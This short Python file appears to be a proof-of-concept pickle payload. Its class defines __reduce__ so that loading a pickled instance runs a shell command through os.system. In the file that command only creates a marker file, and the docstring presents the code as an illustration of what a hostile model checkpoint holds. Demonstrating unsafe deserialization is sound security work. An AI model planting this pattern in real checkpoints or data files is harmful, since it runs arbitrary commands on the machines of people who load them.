"""A pickle payload that runs a shell command when loaded: what a hostile checkpoint holds."""

import os


class RunsCode:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))
